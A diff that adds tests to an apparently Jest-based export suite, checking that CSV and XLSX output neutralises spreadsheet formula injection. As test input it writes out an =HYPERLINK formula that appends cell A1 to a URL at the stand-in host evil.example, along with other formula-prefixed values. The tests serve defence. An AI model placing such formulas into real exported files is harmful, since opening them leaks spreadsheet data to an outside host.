@@ -76,4 +76,29 @@ describe('export', () => {
     expect(lines[3]).toBe('3;WAIT-1;"linha\ncom quebra";;;ACME;;;;cancelled;');
     expect(lines[4]).toBe('');
   });
+
+  it('puts an apostrophe before CSV text that a spreadsheet would run as a formula, not before numbers', () => {
+    const risky = [
+      toExportRow(item({ seq: 1, partnumber: '=HYPERLINK("http://evil.example/?q="&A1,"clique")', description: '+55 11 5555-0000', classification: { ...classification, description: '-Circuito integrado', manufacturer: '@SUM(1+1)' } })),
+      toExportRow(item({ seq: 2, partnumber: '-LM317T', description: '\tTAB', manufacturer: '\rCR', classification: null })),
+      toExportRow(item({ seq: 3, partnumber: 'BC547', description: 'Transistor NPN; 45 V = 100 mA', manufacturer: 'onsemi', classification: null })),
+      { ...toExportRow(item({ seq: 4, partnumber: 'NEG-1', classification: null })), confidence: -1 },
+    ];
+    const lines = buildCsv(risky).slice(1).split('\r\n');
+    expect(lines[1]).toBe(
+      `1;"'=HYPERLINK(""http://evil.example/?q=""&A1,""clique"")";'+55 11 5555-0000;'-Circuito integrado;8542.39.90;'@SUM(1+1);;MY;0.88;done;"8542.31.90 (0.41); 8542.33.00 (0.20)"`,
+    );
+    expect(lines[2]).toBe(`2;'-LM317T;'\tTAB;;;"'\rCR";;;;done;`);
+    expect(lines[3]).toBe('3;BC547;"Transistor NPN; 45 V = 100 mA";;;onsemi;;;;done;');
+    expect(lines[4]).toBe('4;NEG-1;AMP OP DUPLO SOIC8;;;TI;;;-1;done;');
+  });
+
+  it('writes formula-like text to the XLSX as text, not as a formula', async () => {
+    const partnumber = '=HYPERLINK("http://evil.example/?q="&A1,"clique")';
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await buildXlsx([toExportRow(item({ partnumber, description: '+55 11', manufacturer: '@SUM(1+1)', classification: null }))])) as unknown as ExcelJS.Buffer);
+    const row = workbook.worksheets[0]!.getRow(2);
+    expect([2, 3, 6].map((column) => row.getCell(column).type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+    expect([2, 3, 6].map((column) => row.getCell(column).value)).toEqual([partnumber, '+55 11', '@SUM(1+1)']);
+  });
 });
